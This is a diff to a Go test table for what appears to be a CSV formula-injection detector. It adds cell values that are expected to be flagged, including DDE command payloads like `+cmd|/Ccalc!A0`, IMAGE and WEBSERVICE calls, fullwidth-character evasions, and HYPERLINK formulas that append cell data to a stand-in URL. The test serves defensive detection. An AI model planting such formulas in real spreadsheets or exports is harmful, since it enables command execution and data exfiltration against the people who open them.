@@ -46,6 +46,9 @@ func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
 		`=RTD("a")`: true, `=IF(1,RTD("a"))`: true, `=@RTD (1)`: true, `+RTD("1")`: true, `-1+CALL("1")`: true, `=_xlfn._xlws.WEBSERVICE(A1)`: true,
 		`-- (see call (2))`: false, `- call (me)`: false, `= see exec(utive)`: false, `=A1+4,call (2)`: false, `-1,(call(2))`: false, `x,RTD(1)`: false,
 		`=cmd|'/c'!A`: true, `=1+cmd|x!A`: true, `=-cmd|'x'!A`: true, `=cmd|'a''b'!A`: true, `-x|y!`: false, `'=cmd|'x'!A`: false,
+		`+cmd|/Ccalc!A0`: true, `-cmd|/C calc!A0`: true, `@cmd|/c!$A$1`: true, `- cmd|/C!A0`: false, `-a|b!`: false, `-a|b! c1`: false, `-a b|c!A0`: false, `-a|b!cd e1`: false,
+		`+IMAGE(A2)`: true, `-IMAGE($B$12,"x")`: true, `- image (a2)`: false, `-image(s)`: false, `-image(a2 of it)`: false, `-image (a2)`: false,
+		`=MAP(A1,IMAGE)`: true, `=LET(f,IMAGE,f(A1))`: true, `=IF(A1,IMAGE,2)`: false, `=ＷＥＢＳＥＲＶＩＣＥ(A1)`: true, `=ＨＹＰＥＲＬＩＮＫ("https://e/"&A1)`: true,
 		`=HYPERLINK("https://e/"&A1)`: true, `=HYPERLINK("#"&A1)`: false, `=HYPERLINK("https://e/?a&b",A1&"x")`: false, `=HYPERLINK(A1)`: false,
 	} {
 		if got := tableIn(t, 5, []byte("a,b\n1,"+line+"\n")); (got != "") != want {
